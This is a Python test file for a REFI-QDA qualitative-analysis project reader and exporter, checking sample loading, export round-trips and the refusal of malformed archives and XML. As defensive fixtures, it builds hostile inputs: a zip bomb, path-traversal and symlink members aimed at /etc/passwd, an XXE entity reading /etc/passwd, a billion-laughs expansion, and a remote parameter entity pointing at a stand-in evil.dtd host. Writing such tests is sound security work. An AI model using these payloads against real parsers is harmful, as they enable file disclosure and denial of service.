"""REFI-QDA reading and writing: the valid samples load, the invalid ones are refused, exports
validate and read back unchanged, and hostile files (zip bombs, path traversal, symbolic links,
XXE, billion laughs, damaged archives, random bytes) are refused with `RefiQdaError` and
nothing else. No database.

The samples are the REFI-QDA test files in the shared project data (`shared/data/refi-qda/`,
see its README for origin and licences); they are read from there, not copied into the
repository. Tests that need them are skipped where that folder is absent.
"""

from __future__ import annotations

import contextlib
import io
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from samskap.analysis.refiqda import (
    Case,
    Code,
    Codebook,
    Coding,
    Limits,
    Note,
    Project,
    RefiQdaError,
    Selection,
    TextSource,
    User,
    Variable,
    VariableValue,
    parse_xml,
    read_qdc,
    read_qde,
    read_qdpx,
    validate_qdc,
    validate_qde,
    write_qdc,
    write_qdpx,
)

REPO = Path(__file__).resolve().parents[2]
SHARED = REPO.parent / "shared" / "data" / "refi-qda"
SAMPLES = SHARED / "samples"
ORNIO_TEXT = "11111111-1111-1111-1111-111111111111.txt"
needs_samples = pytest.mark.skipif(not SAMPLES.is_dir(), reason="shared REFI-QDA samples not present")


def sample(relative: str) -> bytes:
    return (SAMPLES / relative).read_bytes()


def make_zip(members: dict[str, bytes] | list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    items = members.items() if isinstance(members, dict) else members
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are built on purpose
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in items:
                archive.writestr(name, data)
    return buffer.getvalue()


def ornio_qdpx() -> bytes:
    return make_zip(
        {
            "project.qde": sample("ornio-hand-authored/project.qde"),
            f"sources/{ORNIO_TEXT}": sample(f"ornio-hand-authored/sources/{ORNIO_TEXT}"),
        }
    )


def refused(code: str, reader: Callable[..., object], data: object, **kwargs: object) -> RefiQdaError:
    with pytest.raises(RefiQdaError) as caught:
        reader(data, **kwargs)
    assert caught.value.code == code, str(caught.value)
    assert 0 < len(str(caught.value)) <= 300
    return caught.value


# ----- the samples -----------------------------------------------------------------------


@needs_samples
def test_the_schemas_shipped_are_the_published_ones():
    data = REPO / "samskap" / "analysis" / "data" / "refi-qda"
    for name in ("Project-mrt2019.xsd", "Codebook.xsd"):
        assert (data / name).read_bytes() == (SHARED / "schemas" / name).read_bytes()
    assert "MIT" in (data / "LICENSE-REFI-QDA-MIT.txt").read_text(encoding="utf-8")


@needs_samples
def test_the_hand_authored_sample_loads_with_everything_a_text_project_holds():
    project = read_qdpx(ornio_qdpx())
    assert project.name == "Sample Study"
    assert project.users == (User("10000000-0000-0000-0000-000000000001", "Researcher A"),)
    assert project.codebook is not None
    (topics,) = project.codebook.codes
    assert (topics.name, topics.is_codable) == ("Topics", False)
    assert [c.name for c in project.codebook.walk()] == ["Topics", "Health", "Diet", "Wellbeing"]
    health = topics.codes[0]
    assert (health.color, health.description) == ("#33cc33", "Anything about physical or mental health")
    assert [v.type for v in project.variables] == ["Integer", "Boolean"]
    (case,) = project.cases
    assert case.name == "Participant 1"
    assert [(v.type, v.value) for v in case.variable_values] == [("Integer", "34"), ("Boolean", "true")]
    assert case.selection_refs == ("50000000-0000-0000-0000-000000000001",)
    (source,) = project.sources
    assert source.text is not None
    first, second = source.selections
    assert source.text[first.start : first.end] == "Diet and health"
    assert (second.start, second.end) == (9, 23)  # overlaps the first
    assert first.codings[0].code == health.guid
    assert first.codings[0].creating_user == "10000000-0000-0000-0000-000000000001"
    (memo,) = project.notes
    assert memo.text == "Remember to follow up on diet-related comments."
    assert project.note_refs == (memo.guid,)
    assert any("PictureSource" in w for w in project.warnings)
    assert any("Links" in w for w in project.warnings)


@needs_samples
def test_the_f4_export_loads_without_its_text_files_with_warnings():
    project = read_qde(sample("openqda-refi-tools/f4-export-project.qde"))
    assert project.origin == "f4 2025.2.9"
    assert len(project.sources) == 4
    assert all(source.text is None for source in project.sources)
    coded = project.sources[2]
    assert [(s.start, s.end) for s in coded.selections][:2] == [(320, 416), (995, 1260)]
    assert coded.selections[2].description.startswith("Dies ist ein Memo")
    assert coded.selections[2].note_refs == ("b4352c05-1171-41d9-9d27-401fd25cd8e7",)
    assert project.codebook is not None
    assert project.codebook.codes[0].note_refs == ("768169b3-d336-4ef3-8060-83bcb776a23d",)
    assert len(project.notes) == 3
    assert len(project.warnings) == 7  # four texts and three notes not available


@needs_samples
def test_a_qdpx_missing_the_text_its_project_names_is_refused():
    data = make_zip({"project.qde": sample("openqda-refi-tools/f4-export-project.qde")})
    refused("missing_source", read_qdpx, data)


@needs_samples
def test_the_project_file_may_be_named_after_the_project():
    data = make_zip(
        {
            "Trial.qde": sample("ornio-hand-authored/project.qde"),
            f"sources/{ORNIO_TEXT}": sample(f"ornio-hand-authored/sources/{ORNIO_TEXT}"),
        }
    )
    assert read_qdpx(data).name == "Sample Study"


@needs_samples
def test_the_invalid_codebook_samples_are_refused_with_a_clear_message():
    error = refused("schema_invalid", read_qdc, sample("portableqda/REFI-QDA-1-5.qdc"))
    assert "Sets" in str(error)
    error = refused("unsupported_namespace", read_qdc, sample("portableqda/portableQDA_Atlasti.qdc"))
    assert "urn:QDA-XML:codebook:0:4" in str(error)


@needs_samples
def test_a_project_is_not_a_codebook():
    refused("wrong_root", read_qdc, sample("ornio-hand-authored/project.qde"))
    refused("wrong_root", read_qde, sample("portableqda/REFI-QDA-1-5.qdc"))


# ----- export ------------------------------------------------------------------------------

CODER_A = "aaaaaaaa-0000-4000-8000-000000000001"
CODER_B = "aaaaaaaa-0000-4000-8000-000000000002"
TEXT = "Person A sier: «Jeg trenger noen å snakke med.» Det hjalp å gå på gruppa hver tirsdag. 😊"


def samskap_project() -> Project:
    need = Code("bbbbbbbb-0000-4000-8000-000000000002", "Behov", True, "#AA3300", "Hva personen trenger")
    coping = Code("bbbbbbbb-0000-4000-8000-000000000003", "Mestring", True, "#0a0")
    top = Code("bbbbbbbb-0000-4000-8000-000000000001", "Erfaringer", False, None, "", (need, coping))
    start = TEXT.index("«")
    return Project(
        name="Kartlegging 2026",
        origin="Samskap",
        users=(User(CODER_A, "Koder 1"), User(CODER_B, "Koder 2")),
        codebook=Codebook((top,)),
        variables=(Variable("cccccccc-0000-4000-8000-000000000001", "Rolle", "Text"),),
        cases=(
            Case(
                "dddddddd-0000-4000-8000-000000000001",
                "Deltaker 1",
                variable_values=(VariableValue("cccccccc-0000-4000-8000-000000000001", "Text", "tjenestebruker"),),
                source_refs=("eeeeeeee-0000-4000-8000-000000000001",),
            ),
        ),
        sources=(
            TextSource(
                "eeeeeeee-0000-4000-8000-000000000001",
                "Intervju 1",
                TEXT,
                selections=(
                    Selection(start, TEXT.index("»") + 1, (Coding(need.guid, CODER_A), Coding(need.guid, CODER_B))),
                    Selection(TEXT.index("Det"), len(TEXT), (Coding(coping.guid, CODER_A, "2026-11-20T10:00:00Z"),)),
                ),
                note_refs=("ffffffff-0000-4000-8000-000000000001",),
            ),
        ),
        notes=(Note("ffffffff-0000-4000-8000-000000000001", "Memo", "Følg opp gruppetilbudet."),),
    )


def test_an_export_validates_and_reads_back_unchanged():
    project = samskap_project()
    data = write_qdpx(project)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.namelist() == ["project.qde", "sources/eeeeeeee-0000-4000-8000-000000000001.txt"]
        qde = archive.read("project.qde")
        assert archive.read("sources/eeeeeeee-0000-4000-8000-000000000001.txt").decode("utf-8") == TEXT
    validate_qde(qde)
    back = read_qdpx(data)
    assert back.warnings == ()
    # Selection and coding guids were derived; everything else is as it went out.
    assert all(s.guid and all(c.guid for c in s.codings) for s in back.sources[0].selections)
    stripped = [
        Selection(s.start, s.end, tuple(Coding(c.code, c.creating_user, c.created) for c in s.codings))
        for s in back.sources[0].selections
    ]
    assert stripped == list(project.sources[0].selections)
    first, text = back.sources[0].selections[0], back.sources[0].text
    assert text is not None
    assert text[first.start : first.end] == "«Jeg trenger noen å snakke med.»"
    assert back.codebook == project.codebook
    assert (back.users, back.variables, back.cases, back.notes) == (
        project.users,
        project.variables,
        project.cases,
        project.notes,
    )


def test_an_export_is_deterministic_and_carries_no_paths():
    project = samskap_project()
    assert write_qdpx(project) == write_qdpx(project)
    qde = zipfile.ZipFile(io.BytesIO(write_qdpx(project))).read("project.qde").decode("utf-8")
    assert "basePath" not in qde
    assert "richTextPath" not in qde
    assert "internal://eeeeeeee-0000-4000-8000-000000000001.txt" in qde
    assert "absolute://" not in qde and "relative://" not in qde


@needs_samples
def test_a_reexported_sample_drops_its_local_base_path():
    project = read_qdpx(ornio_qdpx())
    data = write_qdpx(project)
    qde = zipfile.ZipFile(io.BytesIO(data)).read("project.qde")
    assert b"/Users/example" not in qde
    validate_qde(qde)
    assert read_qdpx(data) == project


def test_a_codebook_export_validates_and_reads_back():
    codebook = samskap_project().codebook
    assert codebook is not None
    data = write_qdc(Codebook(codebook.codes, origin="Samskap"))
    validate_qdc(data)
    assert data == write_qdc(Codebook(codebook.codes, origin="Samskap"))
    back = read_qdc(data)
    assert back.origin == "Samskap"
    assert back.codes == tuple(_without_notes(c) for c in codebook.codes)


def _without_notes(code: Code) -> Code:
    return Code(
        code.guid, code.name, code.is_codable, code.color, code.description, tuple(map(_without_notes, code.codes))
    )


def test_text_can_be_passed_apart_from_the_project():
    project = samskap_project()
    bare = Project(
        project.name, codebook=project.codebook, sources=(TextSource(project.sources[0].guid, "Intervju 1"),)
    )
    back = read_qdpx(write_qdpx(bare, {project.sources[0].guid: "Pseudonymisert tekst."}))
    assert back.sources[0].text == "Pseudonymisert tekst."


@pytest.mark.parametrize(
    "change",
    [
        lambda p: Project(
            p.name, codebook=p.codebook, sources=(TextSource(p.sources[0].guid, "x", "kort", p.sources[0].selections),)
        ),
        lambda p: Project(p.name, codebook=None, sources=p.sources),
        lambda p: Project(p.name, users=(User("not-a-guid", "x"),)),
        lambda p: Project(p.name, sources=(TextSource(p.sources[0].guid, "uten tekst"),)),
        lambda p: Project(
            p.name, cases=(Case(p.cases[0].guid, variable_values=(VariableValue("x", "Colour", "red"),)),)
        ),
    ],
    ids=["selection-outside-text", "unknown-code", "bad-guid", "no-text", "bad-value-type"],
)
def test_an_export_that_would_be_invalid_is_refused(change):
    refused("export_invalid", write_qdpx, change(samskap_project()))


def test_an_empty_codebook_cannot_be_exported():
    refused("export_invalid", write_qdc, Codebook(()))


# ----- hostile and broken input ------------------------------------------------------------


def valid_qdpx() -> bytes:
    return write_qdpx(samskap_project())


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("project.qde", zipfile.ZipFile(io.BytesIO(valid_qdpx())).read("project.qde"))
        chunk = bytes(1024 * 1024)
        with archive.open("sources/eeeeeeee-0000-4000-8000-000000000001.txt", "w") as member:
            for _ in range(200):  # 200 MiB of zeros, streamed: about 200 KiB compressed
                member.write(chunk)
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024
    refused("zip_bomb", read_qdpx, data)
    refused("too_large", read_qdpx, data, limits=Limits(ratio=10**6, total_uncompressed=100 * 1024 * 1024))
    refused("too_large", read_qdpx, data, limits=Limits(ratio=10**6))  # over the 64 MiB a text may have


def test_many_small_members_that_together_make_a_bomb_are_refused():
    members = {f"sources/{k}.txt": bytes(1024 * 1024) for k in range(20)}  # 1 MiB each, none over the ratio check
    refused("zip_bomb", read_qdpx, make_zip({"project.qde": b"<Project/>", **members}))


@pytest.mark.parametrize(
    "name",
    [
        "../evil.txt",
        "sources/../../evil.txt",
        "/etc/passwd",
        "\\windows\\evil.txt",
        "C:/evil.txt",
        "sources\\..\\..\\x",
    ],
)
def test_path_traversal_and_absolute_names_are_refused(name):
    refused("unsafe_path", read_qdpx, make_zip([("project.qde", b"<Project/>"), (name, b"x")]))


def test_an_internal_path_that_leaves_the_sources_folder_is_refused():
    qde = (
        b'<Project xmlns="urn:QDA-XML:project:1.0" name="p"><Sources>'
        b'<TextSource guid="eeeeeeee-0000-4000-8000-000000000001" plainTextPath="internal://../project.qde"/>'
        b"</Sources></Project>"
    )
    refused("unsafe_path", read_qdpx, make_zip({"project.qde": qde}))


def test_a_symbolic_link_is_refused():
    link = zipfile.ZipInfo("sources/link.txt")
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    refused("symlink", read_qdpx, make_zip([("project.qde", b"<Project/>"), (link, b"/etc/passwd")]))


def test_encrypted_duplicate_and_too_many_members_are_refused():
    # zipfile cannot write encrypted members: set the "encrypted" flag in both headers by hand.
    secret = bytearray(make_zip({"project.qde": b"<Project/>"}))
    local, central = secret.index(b"PK\x03\x04"), secret.index(b"PK\x01\x02")
    secret[local + 6] |= 0x1
    secret[central + 8] |= 0x1
    refused("encrypted", read_qdpx, bytes(secret))
    refused("duplicate_member", read_qdpx, make_zip([("project.qde", b"a"), ("project.qde", b"b")]))
    many = make_zip({f"sources/{k}.txt": b"x" for k in range(5)})
    refused("too_many_members", read_qdpx, many, limits=Limits(members=4))
    refused("too_large", read_qdpx, many, limits=Limits(archive_bytes=100))


def test_archives_without_exactly_one_project_file_are_refused():
    refused("no_project", read_qdpx, make_zip({"sources/a.txt": b"x", "sub/project.qde": b"<Project/>"}))
    refused("several_projects", read_qdpx, make_zip({"a.qde": b"<Project/>", "b.qde": b"<Project/>"}))


@pytest.mark.parametrize("data", [b"", b"PK", b"not a zip at all", b"%PDF-1.4 ..."])
def test_bytes_that_are_not_a_zip_are_refused(data):
    refused("not_zip", read_qdpx, data)


def test_a_truncated_zip_is_refused():
    data = valid_qdpx()
    for cut in (len(data) // 3, len(data) // 2, len(data) - 10):
        with pytest.raises(RefiQdaError):
            read_qdpx(data[:cut])


def test_a_damaged_member_is_refused():
    data = bytearray(valid_qdpx())
    start = data.index(b"project.qde") + len("project.qde")  # the first member's compressed bytes
    data[start + 5 : start + 25] = bytes(20)
    with pytest.raises(RefiQdaError) as caught:
        read_qdpx(bytes(data))
    assert caught.value.code in ("bad_zip", "not_xml", "schema_invalid")


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Project xmlns="urn:QDA-XML:project:1.0" name="&xxe;"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes><Code guid="bbbbbbbb-0000-4000-8000-000000000001"
 name="&lol9;" isCodable="true"/></Codes></CodeBook>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CodeBook [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<CodeBook xmlns="urn:QDA-XML:codebook:1.0"/>"""


@pytest.mark.parametrize(
    "document", [XXE, BILLION_LAUGHS, PARAMETER_ENTITY], ids=["xxe", "billion-laughs", "parameter-entity"]
)
def test_xml_with_a_doctype_or_entities_is_refused(document):
    refused("xml_dtd", read_qdc, document)
    refused("xml_dtd", read_qde, document)
    refused("xml_dtd", read_qdpx, make_zip({"project.qde": document}))


def test_deeply_nested_xml_is_refused():
    deep = b"<a>" * 10_000 + b"</a>" * 10_000
    refused("xml_too_deep", read_qdc, deep)
    refused("xml_too_deep", parse_xml, deep, max_depth=50)


@pytest.mark.parametrize(
    ("document", "code"),
    [
        (b"<CodeBook", "not_xml"),
        (b"\xff\xfe\x00garbage", "not_xml"),
        (b'<?xml version="1.0" encoding="klingon"?><CodeBook/>', "not_xml"),
        (b"<CodeBook/>", "unsupported_namespace"),
        (b'<CodeBook xmlns="urn:QDA-XML:codebook:1.0"/>', "schema_invalid"),
        (b'<Other xmlns="urn:QDA-XML:codebook:1.0"/>', "wrong_root"),
    ],
)
def test_broken_codebooks_are_refused(document, code):
    refused(code, read_qdc, document)


def project_with_text(selection: str, text: bytes, code_ref: str = "bbbbbbbb-0000-4000-8000-000000000001") -> bytes:
    qde = (
        '<Project xmlns="urn:QDA-XML:project:1.0" name="p"><CodeBook><Codes>'
        '<Code guid="bbbbbbbb-0000-4000-8000-000000000001" name="c" isCodable="true"/></Codes></CodeBook><Sources>'
        '<TextSource guid="eeeeeeee-0000-4000-8000-000000000001" plainTextPath="internal://t.txt">'
        f'<PlainTextSelection guid="50000000-0000-0000-0000-000000000001" {selection}>'
        f'<Coding guid="60000000-0000-0000-0000-000000000001"><CodeRef targetGUID="{code_ref}"/></Coding>'
        "</PlainTextSelection></TextSource></Sources></Project>"
    )
    return make_zip({"project.qde": qde.encode(), "sources/t.txt": text})


def test_project_content_is_checked():
    assert (
        read_qdpx(project_with_text('startPosition="0" endPosition="4"', "\ufeffæøå!".encode())).sources[0].text
        == "æøå!"
    )
    refused("bad_selection", read_qdpx, project_with_text('startPosition="0" endPosition="5"', "æøå!".encode()))
    refused("bad_selection", read_qdpx, project_with_text('startPosition="3" endPosition="2"', b"abcd"))
    refused("bad_selection", read_qdpx, project_with_text('startPosition="-1" endPosition="2"', b"abcd"))
    refused("schema_invalid", read_qdpx, project_with_text('startPosition="zero" endPosition="2"', b"abcd"))
    refused("bad_text", read_qdpx, project_with_text('startPosition="0" endPosition="2"', b"\xff\xfe\xfa"))
    unknown = "bbbbbbbb-0000-4000-8000-000000000009"
    refused("unknown_reference", read_qdpx, project_with_text('startPosition="0" endPosition="2"', b"ab", unknown))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_random_bytes_raise_nothing_but_refi_qda_error(data):
    for reader in (read_qdpx, read_qdc, read_qde):
        with contextlib.suppress(RefiQdaError):
            reader(data)


VALID = write_qdpx(samskap_project())


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.integers(0, len(VALID) - 1), st.integers(0, 255)), min_size=1, max_size=8))
def test_a_damaged_export_raises_nothing_but_refi_qda_error(changes):
    data = bytearray(VALID)
    for position, value in changes:
        data[position] = value
    with contextlib.suppress(RefiQdaError):
        read_qdpx(bytes(data))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_xml_text_raises_nothing_but_refi_qda_error(text):
    for reader in (read_qdc, read_qde):
        with contextlib.suppress(RefiQdaError):
            reader(('<CodeBook xmlns="urn:QDA-XML:codebook:1.0">' + text).encode("utf-8"))
